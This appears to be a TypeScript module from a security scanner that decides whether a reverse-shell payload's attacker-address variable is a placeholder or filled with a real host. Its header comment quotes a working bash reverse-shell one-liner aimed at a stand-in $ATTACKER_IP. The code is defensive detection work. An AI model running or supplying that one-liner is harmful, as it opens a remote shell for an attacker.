import type { FileFacts } from '../../analysis/extract.js';
import type { Behaviour, Endpoint } from '../../analysis/facts.js';
import { classifyHost, isPrivateNetworkHost } from '../../analysis/hosts.js';
import type { RuleContext } from '../types.js';

/**
 * A connect-back address left for the reader to fill in: `bash -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1` in a
 * cheat sheet where nothing sets `ATTACKER_IP`. Run as written, the shell dials `/dev/tcp//4444` and
 * reaches no one, like one dialing `<attacker-ip>` or `LHOST`. The variable counts as filled when any file
 * the payload can see (its own, every file of every entry point that reaches it, the settings files whose
 * `env` a session gets) gives it a value that could be an address: an assignment, a default
 * (`${IP:-…}`), a `read`, a key in a settings or data file, or a sentence naming it beside a host. Only a
 * value that is itself a slot (`10.10.14.x`, `<your-ip>`, a documentation range, a private lab address)
 * leaves it unfilled. Names the system fills with a peer's address (`SSH_CLIENT`) are never slots.
 */

/** Variables the system or a server fills with the address of whoever connected. */
const PEER_ADDRESS = /^(?:SSH_CLIENT|SSH_CONNECTION|REMOTE_ADDR|REMOTE_HOST|HTTP_X_FORWARDED_FOR)$/i;

/** Files read per question, and characters per file: beyond that the variable counts as filled. */
const MAX_FILES = 400;
const MAX_CHARS = 1 << 20;

/** The variable an endpoint is, when it is nothing but one (`$ATTACKER_IP`, `${LHOST}:4444`). */
export function endpointVariable(ep: Endpoint | undefined): string | undefined {
  const raw = (ep?.url ?? ep?.host ?? '').trim();
  const m = /^\$\{?([A-Za-z_]\w{0,63})\}?(?::\S{1,40})?$/.exec(raw);
  if (!m || PEER_ADDRESS.test(m[1]!)) return undefined;
  return m[1];
}

/** Host-like words of a value: dotted names, addresses (with slots), URLs' hosts. */
const HOSTISH = /[\w-]{1,63}(?:\.[\w-]{1,63}){1,8}/g;
/** A value computed when the line runs: a substitution, another variable, an encoded blob. */
const COMPUTED = /\$\(|`|<\(|\$\{?[A-Za-z_]|[A-Za-z0-9+/]{24,}={0,2}/;
/** Commands that set the variable named after them from input. */
const READS_INTO = /\b(?:read|mapfile|readarray|getopts|select|printf\s+-v)\b/;

/** Whether a value's text could carry a real address (anything but slots, placeholders and lab ranges). */
export function carriesAddress(value: string): boolean {
  if (COMPUTED.test(value)) return true;
  for (const m of value.matchAll(HOSTISH)) {
    const cls = classifyHost(m[0]);
    if (cls === 'placeholder') continue;
    if (cls === 'local' || isPrivateNetworkHost(m[0])) continue;
    // A version (`1.2`) or a number is no host.
    if (/^[\d.]+$/.test(m[0]) && !/^\d{1,3}(?:\.\d{1,3}){3}$/.test(m[0])) continue;
    return true;
  }
  return false;
}

/**
 * Whether one line of text fills the variable. Each mention of the name is read with what follows it: a
 * plain use of its value (`$NAME`, `${NAME}`) fills nothing; a default (`${NAME:-…}`) or an assignment
 * (`NAME=…`, `NAME: …`, `"NAME": …`, Perl/PHP/PowerShell `$NAME = …`) fills it unless the value is a slot;
 * a `read` into it fills it; any other mention (a sentence, a table row) fills it when an address follows.
 */
export function lineFills(line: string, name: string): boolean {
  const re = new RegExp(`(?<![\\w])${name}(?![\\w])`, 'gi');
  for (const m of line.matchAll(re)) {
    const before = line.slice(Math.max(0, m.index - 6), m.index);
    const after = line.slice(m.index + m[0].length);
    if (/\$\{$/.test(before)) {
      const dflt = /^:?[-=?+]([^}]{0,200})\}/.exec(after);
      if (dflt && !slotOnly(dflt[1]!)) return true;
      continue;
    }
    const use = /(?:\$|\$env:|%)$/i.test(before);
    const assign = /^["']?\s{0,4}[:=](?![=~])(.*)$/.exec(after);
    if (assign && !(use && assign[0].startsWith(':'))) {
      if (!slotOnly(assign[1]!)) return true;
      continue;
    }
    if (use) continue;
    if (READS_INTO.test(line.slice(0, m.index))) return true;
    if (carriesAddress(after)) return true;
  }
  return false;
}

/** A value that is only a slot or a write-up's placeholder (`"10.10.14.x"`, `<your-ip>`, `LHOST`). */
function slotOnly(value: string): boolean {
  if (COMPUTED.test(value)) return false;
  const v = value
    .replace(/\s#.*$/, '')
    .trim()
    .replace(/^["'\s]+/, '');
  const token = /^[^\s"',;})]*/.exec(v)?.[0] ?? '';
  if (token === '') return true;
  const cls = classifyHost(token);
  return cls === 'placeholder' || cls === 'local' || isPrivateNetworkHost(token);
}

/** Whether any text the payload at `path` can see fills `name`. */
async function filledInReach(ctx: RuleContext, path: string, name: string): Promise<boolean> {
  const graph = await ctx.model.graph();
  const paths = new Set<string>([path]);
  for (const r of graph.reachers(path)) {
    for (const p of graph.closure(r.entry).keys()) {
      paths.add(p);
      if (paths.size > MAX_FILES) return true;
    }
  }
  for (const h of ctx.model.hooksFiles) paths.add(h.path);
  const lower = name.toLowerCase();
  for (const p of paths) {
    const file = await ctx.model.files.text(p);
    if (!file) continue;
    if (file.text.length > MAX_CHARS) return true;
    if (!file.text.toLowerCase().includes(lower)) continue;
    for (const line of file.text.split('\n')) {
      if (line.length > 4_000) {
        if (line.toLowerCase().includes(lower)) return true;
        continue;
      }
      if (line.toLowerCase().includes(lower) && lineFills(line, name)) return true;
    }
  }
  return false;
}

/**
 * The endpoint as the rules grade it: a variable nothing in reach fills is a placeholder (the reader's own
 * box), with `filled: false`; anything else is returned unchanged.
 */
export async function readerEndpoint(
  ctx: RuleContext,
  path: string,
  ep: Endpoint,
): Promise<{ ep: Endpoint; unfilled?: string }> {
  if (ep.cls !== 'unknown') return { ep };
  const name = endpointVariable(ep);
  if (!name || (await filledInReach(ctx, path, name))) return { ep };
  return { ep: { ...ep, cls: 'placeholder' }, unfilled: name };
}

/** The variables among written hosts (`$ATTACKER_IP` in a crontab line) that nothing in reach fills. */
export async function unfilledNames(
  ctx: RuleContext,
  path: string,
  hosts: readonly string[],
): Promise<Set<string>> {
  const out = new Set<string>();
  for (const h of hosts) {
    const name = endpointVariable({ url: h, cls: 'unknown' });
    if (name && !out.has(name) && !(await filledInReach(ctx, path, name))) out.add(name);
  }
  return out;
}

/** The fence or script a unit sits in (embedded code's outermost parent). */
function rootUnit(facts: FileFacts, id: number): number {
  let at = id;
  for (let k = 0; k < 32; k++) {
    const parent = facts.units[at]?.parent;
    if (parent === undefined) return at;
    at = parent;
  }
  return at;
}

/**
 * How many entries of the same kind the block holding `b` lists, on distinct lines: a block of several
 * reverse shells (bash, nc, python, php) or several persistence methods is a menu of alternatives for the
 * reader to pick one from — nobody runs them all in a row — as a list of patterns after "such as:" is.
 */
export function alternativesInBlock(facts: FileFacts, b: Behaviour, same: (x: Behaviour) => boolean): number {
  const root = rootUnit(facts, b.unit);
  const lines = new Set<number>();
  for (const x of facts.behaviours)
    if (same(x) && rootUnit(facts, x.unit) === root) lines.add(x.at.startLine);
  return lines.size;
}
